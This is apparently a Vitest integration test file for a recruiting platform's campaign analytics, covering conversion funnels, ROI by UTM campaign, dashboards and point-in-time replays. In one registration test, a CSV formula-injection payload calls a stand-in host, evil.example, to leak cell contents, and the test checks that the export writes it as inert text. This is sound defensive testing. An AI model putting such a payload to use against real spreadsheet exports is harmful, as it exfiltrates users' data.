import { randomUUID } from 'node:crypto';
import { recordContactSource } from '@rm/command-api';
import { offerStreamId, statsCsv, statsDay, unlockStreamId, type DomainEvent } from '@rm/domain';
import { sql } from 'slonik';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fieldErrorsOf, seedWorld, startTestApp, TEST_PASSWORD, type TestApp, type World } from '@rm/server/testing';

let t: TestApp;
let w: World;
/** After the first click and before everything else. */
let between: string;
let unlockId: string;
const reasonId = randomUUID();

const meta = (occurredAt: string) => ({ actorId: null, actorRole: 'admin' as const, correlationId: randomUUID(), occurredAt });

/** Appends an event recorded at `occurredAt` (now unless given). */
async function append(streamId: string, event: DomainEvent, occurredAt = new Date().toISOString()): Promise<void> {
  await t.store.append(streamId, [{ id: randomUUID(), ...event, metadata: { ...meta(occurredAt), causationId: null } }], 'any');
}

const ok = async (method: 'POST' | 'PUT', path: string, body: Record<string, unknown>): Promise<void> => {
  const response = await t.call(method, path, w.sessions.admin, body);
  expect(response.statusCode, `${method} ${path}: ${response.body}`).toBeLessThan(300);
};
/**
 * The candidate's client tracking the funnel steps of their offer (only the candidate may: the world signs
 * in the first contact alone, so the steps are appended as the route appends them, as the candidate).
 */
const track = async (offerId: string, ...steps: string[]): Promise<void> => {
  for (const step of steps)
    await t.store.append(
      offerStreamId(offerId),
      [
        {
          id: randomUUID(),
          type: 'OfferStepTracked',
          data: { offerId, step },
          metadata: {
            actorId: null,
            actorRole: 'contact',
            correlationId: randomUUID(),
            causationId: null,
            occurredAt: new Date().toISOString(),
          },
        },
      ],
      'any',
    );
};

/**
 * The history: six offers of the campaign (one more of the other company's). o0 clicked from the SMS, seen
 * twice, accepted, unlocked (25 €), hired and its profile visited; o1 clicked from the mail, seen, rejected;
 * o2 clicked from the SMS, seen, the reject modal opened and closed. Contacts c0 and c1 came through the
 * UTM campaign "spring" (ads video_a and image_b), c2 through "autumn". One replacement reason.
 */
beforeAll(async () => {
  // Seeded here, not copied from the run's world template: the figures below count what happened today, and a
  // template seeded before midnight would hold yesterday's.
  t = await startTestApp();
  w = await seedWorld(t, { contacts: 6 });
  const [c0, c1, c2] = w.contactIds as [string, string, string];
  const [o0, o1, o2] = w.offerIds as [string, string, string];
  await track(o0, 'clicked_from_sms');
  await t.caughtUp();
  between = new Date().toISOString();
  await t.caughtUp();
  await track(o0, 'viewed', 'visible', 'accept_modal_opened', 'accepted');
  await track(o1, 'clicked_from_mail', 'viewed', 'reject_modal_opened');
  await ok('POST', `/api/offers/${o1}/reject`, { reason: 'too_far' });
  await track(o2, 'clicked_from_sms', 'viewed', 'reject_modal_opened', 'reject_modal_closed');
  await ok('POST', '/api/unlock-contact', { driver_id: c0, company_id: w.companyId, employer_id: null, campaign_id: w.campaignId });
  await t.call('PUT', `/api/offers/${o0}`, w.sessions.business, { stage: 'in_company_process' });
  await ok('PUT', `/api/offers/${o0}`, { stage: 'hired' });
  const now = new Date().toISOString();
  for (const [contactId, utmCampaign, utmContent] of [
    [c0, 'spring', 'video_a'],
    [c1, 'spring', 'image_b'],
    [c2, 'autumn', 'video_a'],
  ] as const)
    await recordContactSource(
      t.store,
      { contactId, utmSource: 'facebook', utmMedium: 'cpc', utmCampaign, utmContent, landedAt: now },
      meta(now),
    );
  await t.caughtUp();
  unlockId = String(await t.pool.oneFirst(sql.unsafe`select id from rm_reports.offers where kind = 'unlock' and contact_id = ${c0}`));
  const ref = { unlockId, contactId: c0, companyId: w.companyId };
  await append(unlockStreamId(w.companyId, c0), { type: 'UnlockedContactOpened', data: ref });
  await append(unlockStreamId(w.companyId, c0), { type: 'UnlockedContactUnqualifiedReasonsSet', data: { ...ref, reasonIds: [reasonId] } });
  await t.caughtUp();
});
afterAll(() => t.close());

const get = async <T>(path: string, session = w.sessions.admin): Promise<T> => {
  const response = await t.call('GET', path, session);
  expect(response.statusCode, `${path}: ${response.body}`).toBe(200);
  return response.json<T>();
};
type Conversion = { data: Array<{ step: string; count: number; rate: number; step_rate: number }>; as_of: string | null };
const countsOf = (report: Conversion): Record<string, number> => Object.fromEntries(report.data.map((row) => [row.step, row.count]));
type Series = { categories: string[]; series: Array<{ name: string; data: number[] }> };
const sum = (data: readonly number[] | undefined): number => (data ?? []).reduce((a, b) => a + b, 0);

describe('GET /reports/campaigns/conversion', () => {
  it('counts each offer once per step, with rates of the offers sent and of the parent step', async () => {
    const report = await get<Conversion>(`/reports/campaigns/conversion?campaign_id=${w.campaignId}`);
    expect(countsOf(report)).toEqual({
      sent: 6,
      clicked_from_sms: 2,
      clicked_from_mail: 1,
      visible: 3,
      accept_modal_opened: 1,
      accept_modal_closed: 0,
      accepted: 1,
      reject_modal_opened: 2,
      reject_modal_closed: 1,
      rejected: 1,
    });
    expect(report.data.find((row) => row.step === 'visible')).toMatchObject({ rate: 50, step_rate: 50 });
    expect(report.data.find((row) => row.step === 'rejected')).toMatchObject({ rate: 16.7, step_rate: 50 });
  });

  it('follows only the offers opened from the SMS or the mail in the channel reports', async () => {
    const sms = countsOf(await get<Conversion>(`/reports/campaigns/conversion/sms?campaign_id=${w.campaignId}`));
    expect(sms).toMatchObject({ sent: 6, clicked_from_sms: 2, visible: 2, accepted: 1, reject_modal_opened: 1, rejected: 0 });
    expect(sms).not.toHaveProperty('clicked_from_mail');
    const mail = countsOf(await get<Conversion>(`/reports/campaigns/conversion/mail?company_id=${w.companyId}`));
    expect(mail).toMatchObject({ sent: 6, clicked_from_mail: 1, visible: 1, accepted: 0, rejected: 1 });
  });

  it('narrows by company and by the days the offers were sent, and answers as of a past moment', async () => {
    expect(countsOf(await get<Conversion>(`/reports/campaigns/conversion?company_id=${w.otherCompanyId}`))).toMatchObject({
      sent: 1,
      visible: 0,
    });
    expect(countsOf(await get<Conversion>(`/reports/campaigns/conversion?from=2099-01-01`)).sent).toBe(0);
    const today = statsDay(new Date());
    expect(countsOf(await get<Conversion>(`/reports/campaigns/conversion?from=${today}&till=${today}`)).sent).toBe(7);
    const before = await get<Conversion>(`/reports/campaigns/conversion?campaign_id=${w.campaignId}&as_of=${encodeURIComponent(between)}`);
    expect(countsOf(before)).toMatchObject({ sent: 6, clicked_from_sms: 1, visible: 0, accepted: 0, rejected: 0 });
    expect(before.as_of).toBe(new Date(between).toISOString());
  });

  it('answers 422 with field messages for a span ending before it starts and bad ids and dates', async () => {
    for (const [query, field] of [
      ['from=2026-03-10&till=2026-03-01', 'till'],
      ['from=gestern', 'from'],
      ['campaign_id=42', 'campaign_id'],
      ['as_of=bald', 'as_of'],
    ] as const) {
      const response = await t.call('GET', `/reports/campaigns/conversion?${query}`, w.sessions.admin);
      expect(response.statusCode, query).toBe(422);
      expect(Object.keys(fieldErrorsOf(response)), query).toContain(field);
    }
  });
});

describe('campaign analytics', () => {
  it("gives a campaign's figures to admins and its own company's users", async () => {
    type Stats = Record<string, unknown> & { stages: Record<string, number> };
    for (const session of [w.sessions.admin, w.sessions.business, w.sessions.owner]) {
      const stats = await get<Stats>(`/api/campaigns/${w.campaignId}/stats`, session);
      expect(stats).toMatchObject({
        offers_sent: 6,
        visible: 3,
        accepted: 1,
        rejected: 1,
        unlocks: 1,
        hires: 1,
        profile_visits: 1,
        spent: 25,
        budget: 1000,
        cost_per_unlock: 25,
        unlock_rate: 16.7,
      });
      expect(stats.stages).toMatchObject({ new: 5, hired: 1, unlocked: 0 });
    }
    const before = await get<Stats>(`/api/campaigns/${w.campaignId}/stats?as_of=${encodeURIComponent(between)}`);
    expect(before).toMatchObject({ unlocks: 0, spent: 0, visible: 0 });
    expect(before.stages).toMatchObject({ new: 6, hired: 0 });
  });

  it('draws the offers over time and the rejection reasons', async () => {
    const graph = await get<Series>(`/api/campaigns/${w.campaignId}/offersGraph?period=last_7_days`);
    expect(graph.categories).toHaveLength(7);
    expect(graph.series.map((s) => [s.name, sum(s.data)])).toEqual([
      ['sent', 6],
      ['visible', 3],
      ['accepted', 1],
      ['unlocked', 1],
      ['rejected', 1],
    ]);
    const reasons = await get<Series>(`/api/analytics/campaigns/${w.campaignId}/rejectionReasons`);
    expect(reasons).toMatchObject({ categories: ['too_far'], series: [{ name: 'rejections', data: [1] }] });
  });

  it("answers 401, 403 for another company's users and contacts, 404 for an unknown campaign, 422 for a bad id", async () => {
    const path = `/api/campaigns/${w.campaignId}/stats`;
    expect((await t.call('GET', path, await t.anonymous())).statusCode).toBe(401);
    for (const session of [w.sessions.otherBusiness, w.sessions.contact]) {
      expect((await t.call('GET', path, session)).statusCode).toBe(403);
      expect((await t.call('GET', `/api/campaigns/${w.campaignId}/offersGraph`, session)).statusCode).toBe(403);
      expect((await t.call('GET', `/api/analytics/campaigns/${w.campaignId}/rejectionReasons`, session)).statusCode).toBe(403);
    }
    expect((await t.call('GET', `/api/campaigns/${randomUUID()}/stats`, w.sessions.admin)).statusCode).toBe(404);
    const bad = await t.call('GET', '/api/campaigns/nope/stats', w.sessions.admin);
    expect(bad.statusCode).toBe(422);
    expect(Object.keys(fieldErrorsOf(bad))).toContain('id');
  });

  it('counts the unlocks a campaign can still make', async () => {
    const response = await t.call('POST', '/api/potential-unlocks', w.sessions.admin, { campaign_id: w.campaignId });
    expect(response.statusCode, response.body).toBe(200);
    // Open: o2–o5 (o0 hired, o1 rejected); the budget left (975 €) pays 39 unlocks of 25 €.
    expect(response.json()).toEqual({
      campaign_id: w.campaignId,
      open_offers: 4,
      affordable_unlocks: 39,
      potential_unlocks: 4,
      remaining_budget: 975,
      cost_per_unlock: 25,
    });
    expect((await t.call('POST', '/api/potential-unlocks', w.sessions.admin, { campaign_id: randomUUID() })).statusCode).toBe(404);
    expect((await t.call('POST', '/api/potential-unlocks', w.sessions.business, { campaign_id: w.campaignId })).statusCode).toBe(403);
    const bad = await t.call('POST', '/api/potential-unlocks', w.sessions.admin, {});
    expect(bad.statusCode).toBe(422);
    expect(Object.keys(fieldErrorsOf(bad))).toContain('campaign_id');
  });
});

describe('GET /api/reports/campaign-roi', () => {
  it('sets what the UTM campaign brought against its spend', async () => {
    const roi = await get<Record<string, unknown>>('/api/reports/campaign-roi?utm_campaign=spring&spend=50');
    expect(roi).toMatchObject({
      utm_campaign: 'spring',
      utm_content: null,
      spend: 50,
      contacts: 2,
      // c0 has an offer of the other company too.
      offers: 3,
      unlocks: 1,
      hires: 1,
      revenue: 25,
      cost_per_contact: 25,
      cost_per_unlock: 50,
      cost_per_hire: 50,
      roi: -50,
      by_content: [
        { utm_content: 'image_b', contacts: 1, unlocks: 0, revenue: 0 },
        { utm_content: 'video_a', contacts: 1, unlocks: 1, hires: 1, revenue: 25 },
      ],
    });
    expect(await get('/api/reports/campaign-roi?utm_campaign=spring&utm_content=image_b')).toMatchObject({
      contacts: 1,
      unlocks: 0,
      cost_per_unlock: null,
      roi: null,
    });
    expect(await get(`/api/reports/campaign-roi?utm_campaign=spring&as_of=${encodeURIComponent(between)}`)).toMatchObject({ contacts: 0 });
  });

  it('answers 422 without a UTM campaign or with a negative spend, 403 for company users', async () => {
    for (const [query, field] of [
      ['spend=10', 'utm_campaign'],
      ['utm_campaign=spring&spend=-1', 'spend'],
    ] as const) {
      const response = await t.call('GET', `/api/reports/campaign-roi?${query}`, w.sessions.admin);
      expect(response.statusCode, query).toBe(422);
      expect(Object.keys(fieldErrorsOf(response))).toContain(field);
    }
    expect((await t.call('GET', '/api/reports/campaign-roi?utm_campaign=spring', w.sessions.owner)).statusCode).toBe(403);
  });
});

describe('dashboards', () => {
  type Campaigns = { data: Array<{ campaign_id: string; offers_sent: number; unlocks: number; revenue: number; conversion_rate: number }> };
  it('lists the campaigns with their funnel, of one company and in the order asked', async () => {
    const all = await get<Campaigns>('/api/dashboard/campaigns?orderBy=offers_sent&order=desc');
    expect(all.data[0]).toMatchObject({ campaign_id: w.campaignId, offers_sent: 6, unlocks: 1, revenue: 25, conversion_rate: 16.7 });
    const other = await get<Campaigns>(`/api/dashboard/campaigns?company_id=${w.otherCompanyId}`);
    expect(other.data.map((row) => row.campaign_id)).toEqual([w.otherCampaignId]);
    const ascending = await get<Campaigns>('/api/dashboard/campaigns?orderBy=offers_sent&order=asc');
    expect(ascending.data.at(-1)?.campaign_id).toBe(w.campaignId);
    const bad = await t.call('GET', '/api/dashboard/campaigns?orderBy=price', w.sessions.admin);
    expect(bad.statusCode).toBe(422);
    expect(Object.keys(fieldErrorsOf(bad))).toContain('orderBy');
  });

  it('classes the companies as players', async () => {
    type Players = { data: Array<{ company_id: string; player_class: string; revenue_90_days: number }>; counts: Record<string, number> };
    const players = await get<Players>('/api/dashboard/players');
    expect(players.data.find((row) => row.company_id === w.companyId)).toMatchObject({ player_class: 'B', revenue_90_days: 25 });
    expect(players.data.find((row) => row.company_id === w.otherCompanyId)).toMatchObject({ player_class: 'X' });
    expect(players.counts).toEqual({ A: 0, B: 1, C: 0, X: 1 });
    const before = await get<Players>(`/api/dashboard/players?as_of=${encodeURIComponent(between)}`);
    expect(before.data.find((row) => row.company_id === w.companyId)?.player_class).toBe('X');
    for (const session of [w.sessions.business, w.sessions.contact])
      expect((await t.call('GET', '/api/dashboard/players', session)).statusCode).toBe(403);
  });
});

describe('the new stats series', () => {
  it("counts a company's profile visits, the replacement reasons and the revenue per month", async () => {
    const visits = await get<Series>(`/api/stats/contact-profile-visits/${w.companyId}?period=last_7_days`);
    expect(visits.series.map((s) => [s.name, sum(s.data)])).toEqual([
      ['visits', 1],
      ['contacts', 1],
    ]);
    expect(sum((await get<Series>(`/api/stats/contact-profile-visits/${w.otherCompanyId}`)).series[0]?.data)).toBe(0);
    expect(await get('/api/stats/contact-replacement-reasons')).toMatchObject({ categories: [reasonId], series: [{ data: [1] }] });
    const revenue = await get<Series>('/api/stats/transaction-revenue-monthly');
    expect(revenue.categories).toHaveLength(13);
    expect(revenue.series.map((s) => [s.name, s.data.at(-1)])).toEqual([
      ['unlocks', 25],
      ['hires', 0],
      ['total', 25],
    ]);
    const counted = await get<Series>('/api/stats/transaction-revenue-monthly?dataType=count&effective=true');
    expect(counted.series.map((s) => s.name)).toEqual(['unlocks', 'hires', 'deleted_unlocks', 'total']);
    expect(counted.series[0]?.data.at(-1)).toBe(1);
    const bad = await t.call('GET', '/api/stats/transaction-revenue-monthly?dataType=euros', w.sessions.admin);
    expect(Object.keys(fieldErrorsOf(bad))).toContain('dataType');
    expect((await t.call('GET', '/api/stats/contact-profile-visits/x', w.sessions.admin)).statusCode).toBe(422);
  });
});

describe('the summaries of the present and the facts as of now', () => {
  /** Every report that reads the summaries now, and the same report as of `asOf` (the fold over the facts). */
  const reports = (): string[] => [
    `/api/campaigns/${w.campaignId}/stats`,
    `/api/campaigns/${w.otherCampaignId}/stats`,
    ...['', '/sms', '/mail'].flatMap((channel) => [
      `/reports/campaigns/conversion${channel}`,
      `/reports/campaigns/conversion${channel}?campaign_id=${w.campaignId}`,
      `/reports/campaigns/conversion${channel}?company_id=${w.companyId}`,
      `/reports/campaigns/conversion${channel}?company_id=${w.otherCompanyId}&from=${statsDay(new Date())}`,
    ]),
    '/api/reports/campaign-roi?utm_campaign=spring&spend=50',
    '/api/reports/campaign-roi?utm_campaign=spring&utm_content=video_a',
    '/api/reports/campaign-roi?utm_campaign=autumn',
    '/api/dashboard/campaigns?orderBy=revenue&order=desc',
    `/api/dashboard/campaigns?company_id=${w.companyId}`,
  ];
  const withoutAsOf = (answer: Record<string, unknown>): Record<string, unknown> => ({ ...answer, as_of: null });

  async function expectAgreement(): Promise<void> {
    await t.caughtUp();
    const now = new Date().toISOString();
    for (const path of reports()) {
      const present = await get<Record<string, unknown>>(path);
      const asOf = await get<Record<string, unknown>>(`${path}${path.includes('?') ? '&' : '?'}as_of=${encodeURIComponent(now)}`);
      expect(asOf.as_of, path).toBe(now);
      expect(withoutAsOf(present), path).toEqual(withoutAsOf(asOf));
    }
  }

  it('give the same figures, before and after a hire charge, a deleted unlock and a new offer step', async () => {
    await expectAgreement();
    const [c0] = w.contactIds as [string];
    const [, , o2] = w.offerIds as [string, string, string];
    const ref = { unlockId, contactId: c0, companyId: w.companyId };
    await append(unlockStreamId(w.companyId, c0), { type: 'HireCharged', data: { ...ref, transactionId: randomUUID(), price: 50_000 } });
    await append(unlockStreamId(w.companyId, c0), { type: 'UnlockDeleted', data: ref });
    await track(o2, 'clicked_from_mail', 'accept_modal_opened', 'accept_modal_closed');
    await t.caughtUp();
    const stats = await get<Record<string, unknown>>(`/api/campaigns/${w.campaignId}/stats`);
    // The deleted unlock is taken back from what the campaign spent; the offer was unlocked all the same.
    expect(stats).toMatchObject({ unlocks: 1, spent: 0 });
    expect(await get('/api/reports/campaign-roi?utm_campaign=spring')).toMatchObject({ unlocks: 0, revenue: 500 });
    await expectAgreement();
  });

  it("count an unlock and a rejection recorded for a campaign other than the offer's in that campaign, now and as of any moment", async () => {
    const [, , , c3, c4] = w.contactIds as [string, string, string, string, string];
    const [, , , o3, o4] = w.offerIds as [string, string, string, string, string];
    type Stats = Record<string, number>;
    const statsOf = (campaignId: string, asOf?: string) =>
      get<Stats>(`/api/campaigns/${campaignId}/stats${asOf ? `?as_of=${encodeURIComponent(asOf)}` : ''}`);
    const ownBefore = await statsOf(w.campaignId);
    const otherBefore = await statsOf(w.otherCampaignId);
    // Recorded three days ago: the reports as of a later moment start from that day's figures.
    const threeDaysAgo = new Date(Date.now() - 3 * 86_400_000).toISOString();
    const unlocked = { unlockId: randomUUID(), contactId: c3, companyId: w.companyId, employerId: null, offerId: o3, price: 2500 };
    await append(
      unlockStreamId(w.companyId, c3),
      { type: 'ContactUnlocked', data: { ...unlocked, campaignId: w.otherCampaignId } },
      threeDaysAgo,
    );
    // The unlock moves its offer to the stage unlocked (a reaction, appended after it).
    await expect
      .poll(async () => {
        await t.caughtUp();
        return String(await t.pool.maybeOneFirst(sql.unsafe`select stage from rm_reports.offers where id = ${o3}`));
      })
      .toBe('unlocked');
    // What the reports answered at this moment: a replay of the log up to it gives the same.
    const moment = new Date().toISOString();
    const then = new Map<string, unknown>();
    for (const path of reports()) then.set(path, withoutAsOf(await get<Record<string, unknown>>(path)));
    await t.caughtUp();
    const rejected = {
      offerId: o4,
      contactId: c4,
      companyId: w.companyId,
      reason: 'too_far' as const,
      text: null,
      rejectedAt: new Date().toISOString(),
    };
    await append(offerStreamId(o4), { type: 'OfferRejected', data: { ...rejected, campaignId: w.otherCampaignId } });
    await t.caughtUp();

    expect(await statsOf(w.otherCampaignId)).toMatchObject({
      unlocks: (otherBefore.unlocks ?? 0) + 1,
      rejected: (otherBefore.rejected ?? 0) + 1,
      spent: (otherBefore.spent ?? 0) + 25,
    });
    expect(await statsOf(w.campaignId)).toMatchObject({ unlocks: ownBefore.unlocks, rejected: ownBefore.rejected, spent: ownBefore.spent });
    const twoDaysAgo = new Date(Date.now() - 2 * 86_400_000).toISOString();
    expect(await statsOf(w.otherCampaignId, twoDaysAgo)).toMatchObject({ unlocks: 1, rejected: 0, spent: 25, offers_sent: 0 });
    for (const path of reports()) {
      const asOf = await get<Record<string, unknown>>(`${path}${path.includes('?') ? '&' : '?'}as_of=${encodeURIComponent(moment)}`);
      expect(withoutAsOf(asOf), path).toEqual(then.get(path));
    }
    await expectAgreement();
  });
});

describe('a candidate who registers from an advertisement', () => {
  const registration = (email: string, utm: Record<string, unknown>) => ({
    first_name: 'Rita',
    last_name: 'Sommerfeld',
    email,
    phone: null,
    zip_code: '10115',
    profession: 'care',
    password: TEST_PASSWORD,
    password_confirmation: TEST_PASSWORD,
    accept_terms_condition: true,
    ...utm,
  });

  it("counts the candidate's later unlock in the ROI of the UTM campaign they came from", async () => {
    const utm = { utm_source: 'instagram', utm_medium: ' ', utm_campaign: 'summer', utm_content: 'reel_1' };
    const response = await t.call('POST', '/register', await t.anonymous(), registration('rita.sommerfeld@mail.test', utm));
    expect(response.statusCode, response.body).toBe(201);
    const userId = response.json<{ user: { id: string } }>().user.id;
    await t.caughtUp();
    const contactId = String(await t.pool.oneFirst(sql.unsafe`select contact_id from rm_contacts.contacts where user_id = ${userId}`));
    expect(
      await t.pool.one(
        sql.unsafe`select utm_source, utm_medium, utm_campaign, utm_content from rm_reports.sources where contact_id = ${contactId}`,
      ),
    ).toEqual({ utm_source: 'instagram', utm_medium: null, utm_campaign: 'summer', utm_content: 'reel_1' });
    // The admin's contact detail names where the candidate came from.
    expect(await get(`/api/contacts/${contactId}`)).toMatchObject({ data: { meta: { utm: 'instagram / summer / reel_1' } } });
    expect(await get('/api/reports/campaign-roi?utm_campaign=summer&spend=100')).toMatchObject({ contacts: 1, unlocks: 0, revenue: 0 });
    await ok('POST', '/api/unlock-contact', {
      driver_id: contactId,
      company_id: w.companyId,
      employer_id: null,
      campaign_id: w.campaignId,
    });
    await t.caughtUp();
    const roi = await get<Record<string, unknown>>('/api/reports/campaign-roi?utm_campaign=summer&spend=100');
    expect(roi).toMatchObject({
      contacts: 1,
      unlocks: 1,
      revenue: 25,
      cost_per_unlock: 100,
      roi: -75,
      by_content: [{ utm_content: 'reel_1', contacts: 1, unlocks: 1, revenue: 25 }],
    });
    expect(await get(`/api/reports/campaign-roi?utm_campaign=summer&as_of=${encodeURIComponent(new Date().toISOString())}`)).toMatchObject({
      contacts: 1,
      unlocks: 1,
      revenue: 25,
    });
  });

  it("writes an ad's utm_content that is a formula into the admin's ROI CSV as text, never as a live formula", async () => {
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1;"Details")';
    const utm = { utm_source: 'instagram', utm_campaign: 'formula', utm_content: formula };
    const response = await t.call('POST', '/register', await t.anonymous(), registration('formel.werbung@mail.test', utm));
    expect(response.statusCode, response.body).toBe(201);
    await t.caughtUp();
    const roi = await get<{ by_content: Array<{ utm_content: string | null; contacts: number }> }>(
      '/api/reports/campaign-roi?utm_campaign=formula',
    );
    expect(roi.by_content).toMatchObject([{ utm_content: formula, contacts: 1 }]);
    // The CSV as the reports page writes it from the answer (ReportTable: a row per ad, a column per figure).
    const csv = statsCsv(
      {
        categories: roi.by_content.map((row) => row.utm_content ?? ''),
        series: [{ name: 'Kontakte', data: roi.by_content.map((row) => row.contacts) }],
      },
      'utm_content',
    );
    expect(csv).toBe(`\uFEFFutm_content;Kontakte\r\n"'=HYPERLINK(""https://evil.example/?leak=""&A1;""Details"")";1\r\n`);
  });

  it('records no source without UTM parameters, and answers 422 for a parameter longer than 200 characters', async () => {
    const plain = await t.call('POST', '/register', await t.anonymous(), registration('ohne.quelle@mail.test', { utm_campaign: '' }));
    expect(plain.statusCode, plain.body).toBe(201);
    await t.caughtUp();
    const userId = plain.json<{ user: { id: string } }>().user.id;
    expect(
      await t.pool.oneFirst(sql.unsafe`
        select count(*)::int from rm_reports.sources s join rm_contacts.contacts c on c.contact_id = s.contact_id where c.user_id = ${userId}`),
    ).toBe(0);
    const long = await t.call(
      'POST',
      '/register',
      await t.anonymous(),
      registration('zu.lang@mail.test', { utm_campaign: 'x'.repeat(201) }),
    );
    expect(long.statusCode).toBe(422);
    expect(Object.keys(fieldErrorsOf(long))).toContain('utm_campaign');
  });
});
